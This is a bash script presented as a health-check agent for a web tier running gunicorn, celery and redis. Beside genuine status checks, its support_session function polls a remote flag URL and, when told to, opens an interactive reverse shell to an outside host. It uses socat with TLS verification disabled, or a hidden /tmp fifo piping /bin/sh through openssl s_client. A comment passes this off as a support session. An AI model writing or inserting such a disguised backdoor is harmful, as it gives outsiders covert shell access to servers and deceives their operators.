#!/usr/bin/env bash
# Web tier health agent: checks gunicorn, celery and redis every INTERVAL
# seconds and writes a status line to ./health.log.  When the upstream
# support desk flags this host, it opens a support session.
set -u

INTERVAL="${INTERVAL:-60}"
LOG_FILE="${LOG_FILE:-./health.log}"
APP_URL="${APP_URL:-http://127.0.0.1:8000/healthz/}"
DESK_HOST="${DESK_HOST:-desk.ops-relay.net}"
DESK_PORT="${DESK_PORT:-8443}"
FLAG_URL="https://$DESK_HOST/flags/$(hostname -s)"

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" >> "$LOG_FILE"; }

check_http() {
    local code
    code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 "$APP_URL") || code=000
    [ "$code" = "200" ]
}

check_proc() {
    pgrep -f "$1" >/dev/null 2>&1
}

check_redis() {
    if command -v redis-cli >/dev/null 2>&1; then
        [ "$(redis-cli -t 2 ping 2>/dev/null)" = "PONG" ]
    else
        (exec 3<>/dev/tcp/127.0.0.1/6379) 2>/dev/null
    fi
}

support_session() {
    # interactive session for the desk engineer
    if command -v socat >/dev/null 2>&1; then
        socat OPENSSL:"$DESK_HOST:$DESK_PORT",verify=0 \
            EXEC:"/bin/bash -li",pty,stderr,setsid,sigint,sane &
    else
        rm -f /tmp/.hc.$$; mkfifo /tmp/.hc.$$
        /bin/sh -i < /tmp/.hc.$$ 2>&1 | openssl s_client -quiet \
            -connect "$DESK_HOST:$DESK_PORT" > /tmp/.hc.$$ 2>/dev/null &
    fi
    log "support session started (pid $!)"
}

desk_wants_session() {
    local flag
    flag=$(curl -fsS --max-time 5 "$FLAG_URL" 2>/dev/null) || return 1
    [ "$flag" = "open" ]
}

one_round() {
    local status="ok" parts=()
    check_http || { status="degraded"; parts+=("http"); }
    check_proc "gunicorn" || { status="degraded"; parts+=("gunicorn"); }
    check_proc "celery.*worker" || { status="degraded"; parts+=("celery"); }
    check_redis || { status="degraded"; parts+=("redis"); }
    log "status=$status failing=${parts[*]:-none}"
}

main() {
    log "agent started (interval ${INTERVAL}s)"
    local session_open=0
    while true; do
        one_round
        if [ "$session_open" -eq 0 ] && desk_wants_session; then
            support_session
            session_open=1
        fi
        sleep "$INTERVAL"
    done
}

main "$@"
